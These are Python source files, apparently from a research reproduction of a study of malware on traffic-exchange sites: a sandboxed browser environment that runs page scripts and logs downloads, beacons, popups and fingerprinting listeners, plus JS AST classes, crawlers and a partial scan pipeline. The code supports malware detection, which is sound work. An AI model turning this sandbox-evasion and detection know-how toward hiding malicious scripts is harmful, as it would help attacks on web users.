_EXECUTABLE_EXTENSIONS = (".exe", ".scr", ".msi", ".bat", ".com", ".pif")


@dataclass
class BehaviorLog:
    """Side effects observed while executing scripts on a page."""

    navigations: List[str] = field(default_factory=list)
    popups: List[str] = field(default_factory=list)
    document_writes: List[str] = field(default_factory=list)
    created_elements: List[str] = field(default_factory=list)
    appended_elements: List[str] = field(default_factory=list)
    downloads: List[str] = field(default_factory=list)
    beacons: List[str] = field(default_factory=list)
    listeners: List[Tuple[str, str]] = field(default_factory=list)
    cookies_set: List[str] = field(default_factory=list)
    external_interface_registrations: List[str] = field(default_factory=list)
    timeouts_scheduled: int = 0
    errors: List[str] = field(default_factory=list)

    @property
    def download_triggers(self) -> List[str]:
        """Navigations/popups that point at executable payloads."""
        candidates = self.navigations + self.popups + self.downloads
        return [u for u in candidates if u.lower().split("?")[0].endswith(_EXECUTABLE_EXTENSIONS)]

    @property
    def fingerprinting_events(self) -> List[Tuple[str, str]]:
        """Listener registrations typical of user-behaviour fingerprinting."""
        interesting = {"mousemove", "mousedown", "mouseup", "keydown", "keyup", "scroll", "touchstart"}
        return [(target, event) for target, event in self.listeners if event in interesting]


class StyleObject:
    """A ``element.style`` host object writing back to the inline style."""

    def __init__(self, element: Element) -> None:
        self._element = element

    def _styles(self) -> Dict[str, str]:
        return self._element.style

    def js_get(self, name: str) -> Any:
        css = _camel_to_css(name)
        value = self._styles().get(css)
        return value if value is not None else ""

    def js_set(self, name: str, value: Any) -> None:
        css = _camel_to_css(name)
        styles = self._styles()
        styles[css] = to_string(value)
        self._element.set("style", "; ".join("%s: %s" % kv for kv in styles.items()))


def _camel_to_css(name: str) -> str:
    out: List[str] = []
    for ch in name:
        if ch.isupper():
            out.append("-")
            out.append(ch.lower())
        else:
            out.append(ch)
    return "".join(out)


class DomElement:
    """JS wrapper around an :class:`repro.htmlparse.Element`."""

    def __init__(self, host: "BrowserHost", element: Element) -> None:
        self._host = host
        self._element = element

    @property
    def element(self) -> Element:
        return self._element

    # -- property access -------------------------------------------------
    def js_get(self, name: str) -> Any:
        el = self._element
        host = self._host
        if name == "tagName":
            return el.tag.upper()
        if name == "id":
            return el.id
        if name == "style":
            return StyleObject(el)
        if name == "innerHTML":
            return serialize_children(el)
        if name == "src":
            return el.get("src")
        if name == "href":
            return el.get("href")
        if name in ("width", "height"):
            return el.get(name)
        if name == "parentNode":
            return host.wrap(el.parent) if el.parent is not None else None
        if name == "children" or name == "childNodes":
            return JSArray([host.wrap(c) for c in el.children if isinstance(c, Element)])
        if name == "firstChild":
            for child in el.children:
                if isinstance(child, Element):
                    return host.wrap(child)
            return None
        if name == "appendChild":
            return NativeFunction("appendChild", self._append_child)
        if name == "insertBefore":
            return NativeFunction("insertBefore", self._insert_before)
        if name == "removeChild":
            return NativeFunction("removeChild", self._remove_child)
        if name == "setAttribute":
            return NativeFunction("setAttribute", self._set_attribute)
        if name == "getAttribute":
            return NativeFunction(
                "getAttribute", lambda attr=UNDEFINED: el.get(to_string(attr)) or None
            )
        if name == "getElementsByTagName":
            return NativeFunction(
                "getElementsByTagName",
                lambda tag=UNDEFINED: JSArray([host.wrap(e) for e in el.find_all(to_string(tag))]),
            )
        if name == "addEventListener":
            return NativeFunction("addEventListener", self._add_event_listener)
        if name == "attachEvent":
            return NativeFunction("attachEvent", self._attach_event)
        if name == "click":
            return NativeFunction("click", self._click)
        if name.startswith("on"):
            return self._handlers().get(name, UNDEFINED)
        if name == "textContent":
            return el.text_content()
        if name == "className":
            return el.get("class")
        return el.get(name) or UNDEFINED

    def js_set(self, name: str, value: Any) -> None:
        el = self._element
        host = self._host
        if name == "innerHTML":
            el.children = []
            fragment = parse_fragment(to_string(value), observer=host.observer)
            for child in list(fragment.children):
                el.append(child)
            host.log.document_writes.append(to_string(value))
            return
        if name == "src":
            el.set("src", to_string(value))
            if el.tag == "img":
                host.log.beacons.append(to_string(value))
            if el.tag == "script":
                host.on_script_src(to_string(value))
            return
        if name in ("textContent", "innerText"):
            el.children = []
            el.append_text(to_string(value))
            return
        if name == "className":
            el.set("class", to_string(value))
            return
        if name.startswith("on"):
            self._handlers()[name] = value
            host.log.listeners.append((el.tag, name[2:]))
            return
        el.set(name, to_string(value))

    def _handlers(self) -> Dict[str, Any]:
        return self._host.handlers.setdefault(id(self._element), {})

    # -- methods ----------------------------------------------------------
    def _append_child(self, child: Any = UNDEFINED) -> Any:
        if isinstance(child, DomElement):
            self._element.append(child.element)
            self._host.log.appended_elements.append(child.element.tag)
        return child

    def _insert_before(self, child: Any = UNDEFINED, ref: Any = UNDEFINED) -> Any:
        if isinstance(child, DomElement):
            index = 0
            if isinstance(ref, DomElement) and ref.element in self._element.children:
                index = self._element.children.index(ref.element)
            self._element.insert(index, child.element)
            self._host.log.appended_elements.append(child.element.tag)
        return child

    def _remove_child(self, child: Any = UNDEFINED) -> Any:
        if isinstance(child, DomElement) and child.element in self._element.children:
            child.element.detach()
        return child

    def _set_attribute(self, name: Any = UNDEFINED, value: Any = UNDEFINED) -> Any:
        attr = to_string(name)
        self._element.set(attr, to_string(value))
        if attr == "src" and self._element.tag == "script":
            self._host.on_script_src(to_string(value))
        return UNDEFINED

    def _add_event_listener(self, event: Any = UNDEFINED, handler: Any = UNDEFINED, *rest: Any) -> Any:
        name = to_string(event)
        self._host.log.listeners.append((self._element.tag, name))
        self._handlers()["on" + name] = handler
        return UNDEFINED

    def _attach_event(self, event: Any = UNDEFINED, handler: Any = UNDEFINED) -> Any:
        name = to_string(event).removeprefix("on")
        self._host.log.listeners.append((self._element.tag, name))
        self._handlers()["on" + name] = handler
        return UNDEFINED

    def _click(self) -> Any:
        """Synthetic click: follows the href like a browser would."""
        href = self._element.get("href")
        if href:
            self._host.navigate(href)
        handler = self._handlers().get("onclick")
        if handler is not UNDEFINED and handler is not None:
            self._host.interpreter.call_function(handler, [], this=self)
        return UNDEFINED

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return "DomElement(<%s>)" % self._element.tag


class LocationObject:
    """``window.location`` — assignments are navigations."""

    def __init__(self, host: "BrowserHost", url: str) -> None:
        self._host = host
        self.url = url

    def js_get(self, name: str) -> Any:
        if name == "href":
            return self.url
        if name == "hostname" or name == "host":
            return _host_of(self.url)
        if name == "protocol":
            return self.url.split(":", 1)[0] + ":" if ":" in self.url else "http:"
        if name == "pathname":
            rest = self.url.split("://", 1)[-1].split("?", 1)[0].split("#", 1)[0]
            slash = rest.find("/")
            return rest[slash:] if slash != -1 else "/"
        if name == "search":
            return "?" + self.url.partition("?")[2] if "?" in self.url else ""
        if name == "replace" or name == "assign":
            return NativeFunction(name, lambda target=UNDEFINED: self._host.navigate(to_string(target)))
        if name == "reload":
            return NativeFunction("reload", lambda *a: UNDEFINED)
        if name == "toString":
            return NativeFunction("toString", lambda: self.url)
        return UNDEFINED

    def js_set(self, name: str, value: Any) -> None:
        if name == "href":
            self._host.navigate(to_string(value))

    def js_to_string(self) -> str:
        return self.url


def _host_of(url: str) -> str:
    rest = url.split("://", 1)[-1]
    return rest.split("/", 1)[0].split(":")[0]


class DocumentObject:
    """The ``document`` host object bridged to the parsed DOM."""

    def __init__(self, host: "BrowserHost", document: Document) -> None:
        self._host = host
        self._document = document
        self._cookie = ""

    def js_get(self, name: str) -> Any:
        host = self._host
        doc = self._document
        if name == "write" or name == "writeln":
            return NativeFunction("document.write", self._write)
        if name == "createElement":
            return NativeFunction("createElement", self._create_element)
        if name == "getElementById":
            def get_by_id(element_id: Any = UNDEFINED) -> Any:
                el = doc.get_element_by_id(to_string(element_id))
                return host.wrap(el) if el is not None else None
            return NativeFunction("getElementById", get_by_id)
        if name == "getElementsByTagName":
            return NativeFunction(
                "getElementsByTagName",
                lambda tag=UNDEFINED: JSArray([host.wrap(e) for e in doc.find_all(to_string(tag))]),
            )
        if name == "body":
            body = doc.body
            return host.wrap(body) if body is not None else None
        if name == "head":
            head = doc.head
            return host.wrap(head) if head is not None else None
        if name == "documentElement":
            html = doc.html
            return host.wrap(html) if html is not None else None
        if name == "location":
            return host.location
        if name == "cookie":
            return self._cookie
        if name == "referrer":
            return host.referrer
        if name == "title":
            title = doc.find("title")
            return title.text_content() if title is not None else ""
        if name == "addEventListener":
            def add_listener(event: Any = UNDEFINED, handler: Any = UNDEFINED, *rest: Any) -> Any:
                host.log.listeners.append(("document", to_string(event)))
                host.document_handlers["on" + to_string(event)] = handler
                return UNDEFINED
            return NativeFunction("addEventListener", add_listener)
        if name.startswith("on"):
            return self._host.document_handlers.get(name, UNDEFINED)
        return UNDEFINED

    def js_set(self, name: str, value: Any) -> None:
        if name == "cookie":
            text = to_string(value)
            self._cookie = (self._cookie + "; " + text).strip("; ")
            self._host.log.cookies_set.append(text)
            return
        if name == "title":
            title = self._document.find("title")
            if title is None:
                head = self._document.head
                if head is not None:
                    title = Element("title")
                    head.append(title)
            if title is not None:
                title.children = []
                title.append_text(to_string(value))
            return
        if name.startswith("on"):
            self._host.document_handlers[name] = value
            self._host.log.listeners.append(("document", name[2:]))
            return

    def _write(self, *args: Any) -> Any:
        markup = "".join(to_string(a) for a in args)
        self._host.log.document_writes.append(markup)
        body = self._document.body
        target = body if body is not None else self._document
        fragment = parse_fragment(markup, observer=self._host.observer)
        for child in list(fragment.children):
            target.append(child)
            if isinstance(child, Element):
                for el in child.iter():
                    if el.tag == "script" and el.get("src"):
                        self._host.on_script_src(el.get("src"))
                    elif el.tag == "script":
                        self._host.pending_inline_scripts.append(el.text_content())
        return UNDEFINED

    def _create_element(self, tag: Any = UNDEFINED) -> Any:
        name = to_string(tag).lower()
        self._host.log.created_elements.append(name)
        return self._host.wrap(Element(name))


class ImageConstructor:
    """``new Image()`` — setting ``.src`` fires a tracking beacon."""

    def __init__(self, host: "BrowserHost") -> None:
        self._host = host
        self.name = "Image"

    def __call__(self, *args: Any) -> Any:
        element = Element("img")
        return self._host.wrap(element)

    def js_get(self, name: str) -> Any:
        return UNDEFINED

    def js_set(self, name: str, value: Any) -> None:
        pass


class XhrObject(JSObject):
    """Minimal XMLHttpRequest recording request URLs as beacons."""

    def __init__(self, host: "BrowserHost") -> None:
        super().__init__()
        self._host = host
        self.properties["open"] = NativeFunction("open", self._open)
        self.properties["send"] = NativeFunction("send", lambda *a: UNDEFINED)
        self.properties["setRequestHeader"] = NativeFunction("setRequestHeader", lambda *a: UNDEFINED)
        self.properties["readyState"] = 4.0
        self.properties["status"] = 200.0
        self.properties["responseText"] = ""

    def _open(self, method: Any = UNDEFINED, url: Any = UNDEFINED, *rest: Any) -> Any:
        self._host.log.beacons.append(to_string(url))
        return UNDEFINED


class BrowserHost:
    """Builds the global environment and tracks behaviour for one page."""

    def __init__(
        self,
        document: Optional[Document] = None,
        url: str = "http://localhost/",
        referrer: str = "",
        rng: Optional[random.Random] = None,
        step_budget: int = 500_000,
        now_ms: float = 1_420_070_400_000.0,  # fixed clock: 2015-01-01
        observer: Optional[Any] = None,
        compile_cache: Optional[Any] = None,
        js_backend: Optional[str] = None,
    ) -> None:
        self.document_tree = document if document is not None else Document()
        #: threaded into fragment parses (document.write / innerHTML) so
        #: injected-markup work lands in the ledger too
        self.observer = observer
        self.log = BehaviorLog()
        self.referrer = referrer
        self.handlers: Dict[int, Dict[str, Any]] = {}
        self.document_handlers: Dict[str, Any] = {}
        self.pending_inline_scripts: List[str] = []
        self.requested_scripts: List[str] = []
        self.now_ms = now_ms
        self._wrappers: Dict[int, DomElement] = {}
        self.location = LocationObject(self, url)
        self.js_backend = resolve_js_backend(js_backend)
        self.interpreter = make_js_engine(
            self.js_backend,
            host_globals={}, step_budget=step_budget, rng=rng or random.Random(0),
            observer=observer, compile_cache=compile_cache,
        )
        self._install_globals()

    # -- plumbing ----------------------------------------------------------
    def wrap(self, element: Optional[Element]) -> Any:
        if element is None:
            return None
        key = id(element)
        wrapper = self._wrappers.get(key)
        if wrapper is None:
            wrapper = DomElement(self, element)
            self._wrappers[key] = wrapper
        return wrapper

    def navigate(self, target: str) -> Any:
        self.log.navigations.append(target)
        return UNDEFINED

    def on_script_src(self, src: str) -> None:
        self.requested_scripts.append(src)

    def _install_globals(self) -> None:
        env = self.interpreter.global_env
        document = DocumentObject(self, self.document_tree)

        def window_open(url: Any = UNDEFINED, *rest: Any) -> Any:
            self.log.popups.append(to_string(url))
            return JSObject({"closed": False})

        def set_timeout(handler: Any = UNDEFINED, delay: Any = UNDEFINED, *rest: Any) -> Any:
            # executed synchronously: the sandbox "fast-forwards" timers
            self.log.timeouts_scheduled += 1
            if isinstance(handler, str):
                try:
                    self.interpreter.run(handler)
                except Exception as exc:  # noqa: BLE001 - sandbox records, never crashes
                    self.log.errors.append(str(exc))
            elif handler is not UNDEFINED:
                try:
                    self.interpreter.call_function(handler, [], this=UNDEFINED)
                except Exception as exc:  # noqa: BLE001
                    self.log.errors.append(str(exc))
            return float(self.log.timeouts_scheduled)

        navigator = JSObject({
            "userAgent": "Mozilla/5.0 (Windows NT 6.1; rv:38.0) Gecko/20100101 Firefox/38.0",
            "platform": "Win32",
            "language": "en-US",
            "plugins": JSArray([JSObject({"name": "Shockwave Flash"})]),
        })
        screen = JSObject({"width": 1366.0, "height": 768.0, "colorDepth": 24.0})

        def date_ctor(*args: Any) -> Any:
            value = self.now_ms if not args else to_number(args[0])
            return JSObject({
                "getTime": NativeFunction("getTime", lambda: value),
                "valueOf": NativeFunction("valueOf", lambda: value),
                "getFullYear": NativeFunction("getFullYear", lambda: 2015.0),
                "toString": NativeFunction("toString", lambda: "Thu Jan 01 2015"),
            })

        globals_to_install = {
            "document": document,
            "location": self.location,
            "navigator": navigator,
            "screen": screen,
            "open": NativeFunction("open", window_open),
            "alert": NativeFunction("alert", lambda *a: UNDEFINED),
            "confirm": NativeFunction("confirm", lambda *a: True),
            "prompt": NativeFunction("prompt", lambda *a: ""),
            "setTimeout": NativeFunction("setTimeout", set_timeout),
            "setInterval": NativeFunction("setInterval", set_timeout),
            "clearTimeout": NativeFunction("clearTimeout", lambda *a: UNDEFINED),
            "clearInterval": NativeFunction("clearInterval", lambda *a: UNDEFINED),
            "Image": ImageConstructor(self),
            "XMLHttpRequest": NativeFunction("XMLHttpRequest", lambda: XhrObject(self)),
            "Date": NativeFunction("Date", date_ctor),
            "console": JSObject({"log": NativeFunction("log", lambda *a: UNDEFINED)}),
        }
        for name, value in globals_to_install.items():
            env.declare(name, value)

        # ``window`` is the global object: a view over the global scope.
        window = _WindowObject(self, env)
        env.declare("window", window)
        env.declare("self", window)
        env.declare("top", window)
        env.declare("parent", window)

    # -- execution -----------------------------------------------------------
    def run_script(self, source: str) -> None:
        """Execute one script, recording (not raising) runtime errors."""
        try:
            self.interpreter.run(source)
        except Exception as exc:  # noqa: BLE001 - sandbox must survive bad input
            self.log.errors.append("%s: %s" % (type(exc).__name__, exc))
        # scripts injected via document.write run after the injecting script
        while self.pending_inline_scripts:
            pending = self.pending_inline_scripts.pop(0)
            try:
                self.interpreter.run(pending)
            except Exception as exc:  # noqa: BLE001
                self.log.errors.append("%s: %s" % (type(exc).__name__, exc))

    def fire_event(self, target: str, event: str) -> None:
        """Dispatch a synthetic event (e.g. the sandbox simulating a click)."""
        handler = self.document_handlers.get("on" + event)
        if handler is not None and handler is not UNDEFINED:
            try:
                self.interpreter.call_function(handler, [JSObject({"type": event})], this=UNDEFINED)
            except Exception as exc:  # noqa: BLE001
                self.log.errors.append("%s: %s" % (type(exc).__name__, exc))
        for handlers in list(self.handlers.values()):
            fn = handlers.get("on" + event)
            if fn is not None and fn is not UNDEFINED:
                try:
                    self.interpreter.call_function(fn, [JSObject({"type": event})], this=UNDEFINED)
                except Exception as exc:  # noqa: BLE001
                    self.log.errors.append("%s: %s" % (type(exc).__name__, exc))


class _WindowObject:
    """The ``window`` global object: property access aliases global scope."""

    def __init__(self, host: BrowserHost, env: Any) -> None:
        self._host = host
        self._env = env

    def js_get(self, name: str) -> Any:
        if name == "location":
            return self._host.location
        if name == "window" or name == "self" or name == "top" or name == "parent":
            return self
        if self._env.has(name):
            return self._env.lookup(name)
        return UNDEFINED

    def js_set(self, name: str, value: Any) -> None:
        if name == "location":
            self._host.navigate(to_string(value))
            return
        self._env.assign(name, value)

    def js_to_string(self) -> str:
        return "[object Window]"


def run_script_in_page(html: str, url: str = "http://localhost/", referrer: str = "",
                       step_budget: int = 500_000, simulate_events: bool = True,
                       rng: Optional[random.Random] = None,
                       observer: Optional[Any] = None,
                       compile_cache: Optional[Any] = None,
                       js_backend: Optional[str] = None) -> BrowserHost:
    """Parse ``html``, execute its inline scripts, optionally fire events.

    Returns the :class:`BrowserHost`, whose ``log`` and mutated
    ``document_tree`` the caller inspects — the standard entry point for
    dynamic analysis of a page.
    """
    from ..htmlparse import parse

    document = parse(html, observer=observer)
    host = BrowserHost(document=document, url=url, referrer=referrer,
                       step_budget=step_budget, rng=rng, observer=observer,
                       compile_cache=compile_cache, js_backend=js_backend)
    for script in document.find_all("script"):
        if script.get("src"):
            host.on_script_src(script.get("src"))
            continue
        source = script.text_content()
        if source.strip():
            host.run_script(source)
    if simulate_events:
        host.fire_event("document", "load")
        host.fire_event("document", "click")
        host.fire_event("document", "mousemove")
    return host
