"""From-scratch JavaScript analysis engine.

Provides everything the paper's behavioural/static JS analysis needs:

* :func:`repro.jsengine.parser.parse` — ES5-subset parser,
* :class:`repro.jsengine.interpreter.Interpreter` — sandboxed execution
  (tree-walking reference backend),
* :class:`repro.jsengine.vm.VirtualMachine` /
  :func:`repro.jsengine.compiler.compile_program` — opcode-compiled
  dispatch-loop backend, selectable via ``$REPRO_JS_BACKEND``,
* :class:`repro.jsengine.hostenv.BrowserHost` /
  :func:`repro.jsengine.hostenv.run_script_in_page` — browser host
  environment with behaviour capture,
* :func:`repro.jsengine.deobfuscate.deobfuscate` — static layer peeling,
* :func:`repro.jsengine.features.extract_features` — Zozzle-style
  syntax-tree features.
"""

from .compilecache import CompileCache
from .compiler import Code, compile_program
from .deobfuscate import DeobfuscationResult, deobfuscate, looks_obfuscated
from .features import JsFeatures, extract_features
from .hostenv import BehaviorLog, BrowserHost, run_script_in_page
from .interpreter import BudgetExceeded, Interpreter
from .lexer import LexError
from .parser import ParseError, parse
from .values import JSException, UNDEFINED
from .vm import JS_BACKEND_ENV, JS_BACKENDS, VirtualMachine, make_js_engine, resolve_js_backend

__all__ = [
    "BehaviorLog",
    "BrowserHost",
    "BudgetExceeded",
    "Code",
    "CompileCache",
    "DeobfuscationResult",
    "Interpreter",
    "JSException",
    "JS_BACKENDS",
    "JS_BACKEND_ENV",
    "JsFeatures",
    "LexError",
    "ParseError",
    "UNDEFINED",
    "VirtualMachine",
    "compile_program",
    "deobfuscate",
    "extract_features",
    "looks_obfuscated",
    "make_js_engine",
    "parse",
    "resolve_js_backend",
    "run_script_in_page",
]
