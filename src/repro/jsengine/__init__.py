"""From-scratch JavaScript analysis engine.

Provides everything the paper's behavioural/static JS analysis needs:

* :func:`repro.jsengine.parser.parse` — ES5-subset parser,
* :class:`repro.jsengine.interpreter.Interpreter` — sandboxed execution,
* :class:`repro.jsengine.hostenv.BrowserHost` /
  :func:`repro.jsengine.hostenv.run_script_in_page` — browser host
  environment with behaviour capture,
* :func:`repro.jsengine.deobfuscate.deobfuscate` — static layer peeling,
* :func:`repro.jsengine.features.extract_features` — Zozzle-style
  syntax-tree features.
"""

from .compilecache import CompileCache
from .deobfuscate import DeobfuscationResult, deobfuscate, looks_obfuscated
from .features import JsFeatures, extract_features
from .hostenv import BehaviorLog, BrowserHost, run_script_in_page
from .interpreter import BudgetExceeded, Interpreter
from .lexer import LexError
from .parser import ParseError, parse
from .values import JSException, UNDEFINED

__all__ = [
    "BehaviorLog",
    "BrowserHost",
    "BudgetExceeded",
    "CompileCache",
    "DeobfuscationResult",
    "Interpreter",
    "JSException",
    "JsFeatures",
    "LexError",
    "ParseError",
    "UNDEFINED",
    "deobfuscate",
    "extract_features",
    "looks_obfuscated",
    "parse",
    "run_script_in_page",
]
