"""JavaScript AST node types.

Plain dataclasses; the parser builds them, the interpreter walks them,
and the static feature extractor (Zozzle-style, Section II-B) traverses
them for syntax-tree features.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Tuple

__all__ = [
    "Node", "Program", "VarDecl", "FunctionDecl", "Block", "If", "While",
    "DoWhile", "For", "ForIn", "Return", "Break", "Continue", "Throw",
    "Try", "Switch", "SwitchCase", "ExpressionStatement", "EmptyStatement",
    "NumberLiteral", "StringLiteral", "BooleanLiteral", "NullLiteral",
    "UndefinedLiteral", "Identifier", "ThisExpr", "ArrayLiteral",
    "ObjectLiteral", "FunctionExpr", "Unary", "Update", "Binary",
    "Logical", "Conditional", "Assignment", "Call", "New", "Member",
    "Sequence",
]


class Node:
    """Base class for AST nodes."""

    def children(self) -> List["Node"]:
        """Child nodes, for generic traversal."""
        out: List[Node] = []
        for value in self.__dict__.values():
            if isinstance(value, Node):
                out.append(value)
            elif isinstance(value, (list, tuple)):
                for item in value:
                    if isinstance(item, Node):
                        out.append(item)
                    elif isinstance(item, tuple):
                        # (name, node) pairs in VarDecl / ObjectLiteral
                        out.extend(v for v in item if isinstance(v, Node))
        return out

    def walk(self):
        """Yield this node and all descendants, depth-first pre-order.

        Iterative on an explicit stack: deeply nested obfuscated
        scripts (kilobyte-deep expression chains) must not hit
        Python's recursion limit during static analysis.
        """
        stack = [self]
        while stack:
            node = stack.pop()
            yield node
            stack.extend(reversed(node.children()))


# ---------------------------------------------------------------------------
# Statements
# ---------------------------------------------------------------------------

@dataclass
class Program(Node):
    body: List[Node]


@dataclass
class VarDecl(Node):
    declarations: List[Tuple[str, Optional[Node]]]


@dataclass
class FunctionDecl(Node):
    name: str
    params: List[str]
    body: List[Node]


@dataclass
class Block(Node):
    body: List[Node]


@dataclass
class If(Node):
    test: Node
    consequent: Node
    alternate: Optional[Node] = None


@dataclass
class While(Node):
    test: Node
    body: Node


@dataclass
class DoWhile(Node):
    body: Node
    test: Node


@dataclass
class For(Node):
    init: Optional[Node]
    test: Optional[Node]
    update: Optional[Node]
    body: Node


@dataclass
class ForIn(Node):
    target: str
    declare: bool
    obj: Node
    body: Node


@dataclass
class Return(Node):
    argument: Optional[Node] = None


@dataclass
class Break(Node):
    pass


@dataclass
class Continue(Node):
    pass


@dataclass
class Throw(Node):
    argument: Node


@dataclass
class Try(Node):
    block: Node
    catch_param: Optional[str] = None
    catch_block: Optional[Node] = None
    finally_block: Optional[Node] = None


@dataclass
class SwitchCase(Node):
    test: Optional[Node]  # None for default
    body: List[Node] = field(default_factory=list)


@dataclass
class Switch(Node):
    discriminant: Node
    cases: List[SwitchCase] = field(default_factory=list)


@dataclass
class ExpressionStatement(Node):
    expression: Node


@dataclass
class EmptyStatement(Node):
    pass


# ---------------------------------------------------------------------------
# Expressions
# ---------------------------------------------------------------------------

@dataclass
class NumberLiteral(Node):
    value: float


@dataclass
class StringLiteral(Node):
    value: str


@dataclass
class BooleanLiteral(Node):
    value: bool


@dataclass
class NullLiteral(Node):
    pass


@dataclass
class UndefinedLiteral(Node):
    pass


@dataclass
class Identifier(Node):
    name: str


@dataclass
class ThisExpr(Node):
    pass


@dataclass
class ArrayLiteral(Node):
    elements: List[Node]


@dataclass
class ObjectLiteral(Node):
    properties: List[Tuple[str, Node]]


@dataclass
class FunctionExpr(Node):
    name: Optional[str]
    params: List[str]
    body: List[Node]


@dataclass
class Unary(Node):
    operator: str
    argument: Node


@dataclass
class Update(Node):
    operator: str  # "++" or "--"
    argument: Node
    prefix: bool


@dataclass
class Binary(Node):
    operator: str
    left: Node
    right: Node


@dataclass
class Logical(Node):
    operator: str  # "&&" or "||"
    left: Node
    right: Node


@dataclass
class Conditional(Node):
    test: Node
    consequent: Node
    alternate: Node


@dataclass
class Assignment(Node):
    operator: str  # "=", "+=", ...
    target: Node  # Identifier or Member
    value: Node


@dataclass
class Call(Node):
    callee: Node
    arguments: List[Node]


@dataclass
class New(Node):
    callee: Node
    arguments: List[Node]


@dataclass
class Member(Node):
    obj: Node
    prop: Node  # StringLiteral for dot access, arbitrary expr for [..]
    computed: bool


@dataclass
class Sequence(Node):
    expressions: List[Node]
