"""Auto-surf and manual-surf crawlers.

Section III-A: "For auto-surf exchanges, we login with our account,
start the automatic surf process, and log URL and other page information
directly from the browser as new pages are loaded.  For manual-surf
exchanges, the data collection is manual and slow" — so manual crawls
cover far fewer pages.  Both crawlers register a brand-new account used
only for the crawl.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Optional

from ..exchanges import (
    AutoSurfExchange,
    HumanSolver,
    ManualSurfExchange,
    SessionHandle,
    StepKind,
    TrafficExchange,
)
from .session import BrowserSession
from .storage import RecordKind

__all__ = ["CrawlStats", "ExchangeCrawler"]

_STEP_TO_RECORD_KIND = {
    StepKind.SELF_REFERRAL: RecordKind.SELF_REFERRAL,
    StepKind.POPULAR_REFERRAL: RecordKind.POPULAR_REFERRAL,
    StepKind.MEMBER_SITE: RecordKind.REGULAR,
    StepKind.CAMPAIGN: RecordKind.REGULAR,
}


@dataclass
class CrawlStats:
    """Per-exchange crawl bookkeeping."""

    exchange: str
    steps: int = 0
    self_referrals: int = 0
    popular_referrals: int = 0
    member_visits: int = 0
    campaign_visits: int = 0


class ExchangeCrawler:
    """Drives one exchange with a fresh measurement account."""

    def __init__(
        self,
        exchange: TrafficExchange,
        browser: BrowserSession,
        rng: random.Random,
        account_id: str = "measurement-account",
        observer: Optional[object] = None,
    ) -> None:
        self.exchange = exchange
        self.browser = browser
        self.rng = rng
        self.account_id = account_id
        self._session: Optional[SessionHandle] = None
        #: optional :class:`repro.obs.RunObserver` (None = no-op hooks)
        self.observer = observer

    def login(self) -> SessionHandle:
        """Register the brand-new crawl account and open its session."""
        ip = "10.%d.%d.%d" % (
            self.rng.randrange(256), self.rng.randrange(256), self.rng.randrange(2, 255),
        )
        self.exchange.register_member(self.account_id, ip, country="US")
        session = self.exchange.open_session(self.account_id)
        if session is None:
            raise RuntimeError("exchange refused the crawl session")
        self._session = session
        return session

    def crawl(self, steps: int) -> CrawlStats:
        """Surf ``steps`` pages, logging everything."""
        if self._session is None:
            self.login()
        assert self._session is not None
        stats = CrawlStats(exchange=self.exchange.name)

        if isinstance(self.exchange, ManualSurfExchange):
            iterator = self.exchange.manual_surf(
                self._session, steps, solver=HumanSolver(rng=self.rng)
            )
        elif isinstance(self.exchange, AutoSurfExchange):
            iterator = self.exchange.auto_surf(self._session, steps)
        else:  # pragma: no cover - base class fallback
            iterator = (self.exchange.next_step(self._session) for _ in range(steps))

        observer = self.observer
        step_counters = {}  # per-kind handles: one registry lookup per kind
        for step in iterator:
            stats.steps += 1
            if step.kind == StepKind.SELF_REFERRAL:
                stats.self_referrals += 1
            elif step.kind == StepKind.POPULAR_REFERRAL:
                stats.popular_referrals += 1
            elif step.kind == StepKind.CAMPAIGN:
                stats.campaign_visits += 1
            else:
                stats.member_visits += 1
            if observer is not None:
                counter = step_counters.get(step.kind)
                if counter is None:
                    counter = step_counters[step.kind] = observer.metrics.counter(
                        "crawl.steps", exchange=self.exchange.name,
                        kind=str(step.kind))
                counter.value += 1.0
            self.browser.visit(
                step.url,
                kind=_STEP_TO_RECORD_KIND[step.kind],
                step_index=step.index,
                timestamp=step.timestamp,
            )
        if observer is not None:
            observer.event("crawl.exchange.done", exchange=self.exchange.name,
                           steps=stats.steps, member_visits=stats.member_visits,
                           campaign_visits=stats.campaign_visits)
            # one heartbeat per finished exchange: the one crawl-phase
            # point that coincides between the serial loop and the shard
            # replay (which re-advances the clock and merges the shard
            # registry first), so live series stay worker-count-invariant
            heartbeat = getattr(observer, "heartbeat", None)
            if heartbeat is not None:
                heartbeat("crawl", advance=1, exchange=self.exchange.name,
                          steps=stats.steps,
                          campaign_visits=stats.campaign_visits)
        return stats
