"""The end-to-end crawl-and-scan pipeline.

Wires the generated web, the HTTP layer, the nine exchanges, the
crawlers, and the detection tools into the measurement the paper ran:

1. build exchange instances from the generated pools, listing member
   sites with weights calibrated so each exchange's true malware
   prevalence matches its Table I profile,
2. schedule paid campaigns (the Figure 3 burst mechanism, plus
   SendSurf's boosted rotation),
3. register measurement accounts and crawl,
4. scan every distinct URL with VirusTotal + Quttera + blacklists,
   submitting the crawler's saved page files (cloaking mitigation).

The pipeline never reads ground truth during measurement; truth is used
only in step 1 (the world-builder arranging prevalence) and by
evaluation utilities.
"""

from __future__ import annotations

import os
import random
import threading
import warnings
from contextlib import nullcontext
from typing import Dict, List, Optional, Tuple

from ..detection import (
    BlacklistSet,
    QutteraSim,
    UrlVerdict,
    UrlVerdictService,
    VirusTotalSim,
    build_blacklists,
)
from ..exchanges import AutoSurfExchange, ManualSurfExchange, TrafficExchange
from ..exchanges.roster import ExchangeProfile
from ..httpsim import SimHttpClient, SimHttpServer
from ..jsengine import CompileCache, resolve_js_backend
from ..obs.provenance import (
    STAGE_CRAWL,
    STAGE_REDIRECT,
    ProvenanceStore,
    StageRecord,
)
from ..scanexec import ParallelScanExecutor, ScanExecution, build_scan_tasks
from ..simweb import ContentCategory, GroundTruth, MalwareFamily, Page, Site
from ..simweb.generator import ExchangePool, GeneratedWeb
from ..simweb.url import Url
from .crawlers import CrawlStats, ExchangeCrawler
from .options import PipelineOptions
from .session import BrowserSession
from .storage import CrawlDataset

__all__ = [
    "ScanOutcome",
    "CrawlPipeline",
    "PipelineOptions",
    "legacy_pipeline_kwargs",
    "workers_from_env",
    "WORKERS_ENV",
    "WORKERS_ENV_VAR",
]

#: environment override for the default worker count of BOTH phases
#: (crawl shards by exchange, scan shards by domain) — lets CI run the
#: whole suite through the parallel executors without code changes
WORKERS_ENV = "REPRO_WORKERS"

#: deprecated scan-era name for :data:`WORKERS_ENV`; still honoured
